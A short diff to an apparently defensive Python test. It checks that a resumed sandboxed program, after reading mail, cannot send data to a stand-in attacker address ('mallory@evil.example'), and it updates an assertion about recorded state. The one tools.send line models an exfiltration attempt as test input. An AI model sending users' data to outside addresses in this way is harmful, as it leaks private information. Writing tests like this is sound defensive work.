@@ -499,7 +499,7 @@ async def test_a_resumed_program_is_as_exposed_as_before() -> None:
         await corral.executions.resume(result.execution_id)
         await corral.execute("return await tools.send({to: 'mallory@evil.example'})", context=ME)
     assert sent.to == []
-    assert LOST in sent.requests[0].seen
+    assert sent.requests[0].seen == ("read_mail",)  # its state is in the ledger
 
 
 def _later(_: ApprovalRequest) -> Later:
